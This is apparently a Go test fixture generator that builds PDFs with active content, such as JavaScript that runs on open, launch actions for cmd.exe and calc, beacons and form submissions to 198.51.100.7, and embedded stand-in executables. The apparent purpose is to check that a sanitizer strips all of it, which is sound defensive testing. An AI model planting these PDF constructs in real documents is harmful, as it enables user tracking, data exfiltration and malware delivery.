package hostile

import (
	"fmt"
	"strings"
)

// activeRecord is Record under another provider, so that each active
// case is its own document.
func activeRecord(name string) string {
	return strings.Replace(Record, "Oakwood Family Medicine", "Clinic "+name, 1)
}

// active adds records that carry active content: each must be processed
// like any record, and what the browser or the exhibit gets of it must
// carry none.
func active(add adder) {
	page := func(file, why, pageExtra, catalogExtra string, objs ...string) {
		add(file, Accepted, why, func() ([]byte, error) {
			d := Page(activeRecord(strings.TrimSuffix(file, ".pdf")), pageExtra, catalogExtra)
			for _, o := range objs {
				d.Add(o)
			}
			return d.Bytes("/Root 1 0 R"), nil
		})
	}
	page("js-openaction.pdf", "JavaScript run when the document opens",
		"", "/OpenAction << /S /JavaScript /JS (app.alert\\('opened'\\);) >>")
	page("js-page-open.pdf", "JavaScript run when the page opens (/AA /O)",
		"/AA << /O << /S /JavaScript /JS (this.submitForm\\('http://198.51.100.7/'\\);) >> >>", "")
	page("js-names-tree.pdf", "document-level JavaScript in the names tree",
		"", "/Names << /JavaScript << /Names [(init) 6 0 R] >> >>", "<< /S /JavaScript /JS (app.launchURL\\('http://198.51.100.7/'\\);) >>")
	add("js-stream.pdf", Accepted, "JavaScript kept in a stream", func() ([]byte, error) {
		d := Page(activeRecord("js-stream"), "", "/OpenAction << /S /JavaScript /JS 6 0 R >>")
		d.Stream("", []byte("app.launchURL('http://198.51.100.7/js-stream');"))
		return d.Bytes("/Root 1 0 R"), nil
	})
	page("launch-link.pdf", "a link that launches a program",
		"/Annots [6 0 R]", "", "<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>")
	page("launch-openaction.pdf", "a program launched when the document opens",
		"", "/OpenAction << /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) >>")
	page("uri-link.pdf", "a link to a web address (a beacon)",
		"/Annots [6 0 R]", "", "<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (http://198.51.100.7/beacon?id=1) >> >>")
	page("uri-base.pdf", "a catalog /URI base",
		"", "/URI << /Base (http://198.51.100.7/) >>")
	page("submitform.pdf", "a form field that submits the form",
		"/Annots [6 0 R]", "/AcroForm << /Fields [6 0 R] >>",
		"<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [72 600 200 630] /A << /S /SubmitForm /F << /FS /URL /F (http://198.51.100.7/collect) >> >> >>")
	page("importdata.pdf", "a form field that imports data",
		"/Annots [6 0 R]", "/AcroForm << /Fields [6 0 R] >>",
		"<< /Type /Annot /Subtype /Widget /FT /Btn /T (load) /Rect [72 600 200 630] /A << /S /ImportData /F (data.fdf) >> >>")
	page("resetform.pdf", "a form field that resets the form",
		"/Annots [6 0 R]", "/AcroForm << /Fields [6 0 R] >>",
		"<< /Type /Annot /Subtype /Widget /FT /Btn /T (reset) /Rect [72 600 200 630] /A << /S /ResetForm >> >>")
	page("widget-aa.pdf", "a text field that runs JavaScript when it is left",
		"/Annots [6 0 R]", "/AcroForm << /Fields [6 0 R] >>",
		"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 600 200 630] /AA << /Bl << /S /JavaScript /JS (app.alert\\(1\\)) >> >> >>")
	page("catalog-aa.pdf", "JavaScript run before closing, saving and printing",
		"", "/AA << /WC << /S /JavaScript /JS (1) >> /WS << /S /JavaScript /JS (2) >> /DP << /S /JavaScript /JS (3) >> >>")
	page("gotor.pdf", "a link that opens another file",
		"/Annots [6 0 R]", "", "<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /GoToR /F (\\\\\\\\198.51.100.7\\\\share\\\\x.pdf) /D [0 /Fit] >> >>")
	page("rendition.pdf", "a rendition action running media",
		"/AA << /O << /S /Rendition /OP 0 /JS (app.alert\\(2\\)) >> >>", "")
	add("xfa.pdf", Accepted, "an XFA form (its own scripting)", func() ([]byte, error) {
		d := Page(activeRecord("xfa"), "/Annots [6 0 R]", "/AcroForm << /Fields [6 0 R] /XFA 7 0 R >>")
		d.Add("<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 600 200 630] >>")
		d.Stream("", []byte(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(4)</script></xdp:xdp>`))
		return d.Bytes("/Root 1 0 R"), nil
	})
	page("action-chain.pdf", "a harmless go-to followed by JavaScript (/Next)",
		"", "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (app.alert\\(3\\)) >> >>")
	page("named-print.pdf", "a named action other than page navigation",
		"/Annots [6 0 R]", "", "<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /Named /N /Print >> >>")
	add("embedded-file.pdf", Accepted, "an executable embedded in the names tree", func() ([]byte, error) {
		d := Page(activeRecord("embedded-file"), "", "/Names << /EmbeddedFiles << /Names [(payload.exe) 7 0 R] >> >>")
		d.Stream("/Type /EmbeddedFile", []byte("MZ\x90\x00 this stands for a program"))
		d.Add("<< /Type /Filespec /F (payload.exe) /UF (payload.exe) /EF << /F 6 0 R >> >>")
		return d.Bytes("/Root 1 0 R"), nil
	})
	add("file-attachment.pdf", Accepted, "a file attachment annotation holding a program", func() ([]byte, error) {
		d := Page(activeRecord("file-attachment"), "/Annots [8 0 R]", "")
		d.Stream("/Type /EmbeddedFile", []byte("MZ\x90\x00 attached program"))
		d.Add("<< /Type /Filespec /F (invoice.exe) /EF << /F 6 0 R >> >>")
		d.Add("")
		d.Set(8, "<< /Type /Annot /Subtype /FileAttachment /Rect [72 700 90 720] /FS 7 0 R /Contents (open me) >>")
		return d.Bytes("/Root 1 0 R"), nil
	})
	add("js-every-page.pdf", Accepted, "ten pages, each with JavaScript on open", func() ([]byte, error) {
		d := &Doc{}
		d.Add("<< /Type /Catalog /Pages 2 0 R >>")
		d.Add("")
		font := d.Add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
		var kids []string
		for i := 1; i <= 10; i++ {
			c := d.Stream("", content(fmt.Sprintf("%s\nPage %d", activeRecord("every-page"), i)))
			p := d.Add(fmt.Sprintf("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %d 0 R /Resources << /Font << /F1 %d 0 R >> >> /AA << /O << /S /JavaScript /JS (app.alert\\(%d\\)) >> >> >>", c, font, i))
			kids = append(kids, fmt.Sprintf("%d 0 R", p))
		}
		d.Set(2, "<< /Type /Pages /Kids ["+strings.Join(kids, " ")+"] /Count 10 >>")
		return d.Bytes("/Root 1 0 R"), nil
	})
}
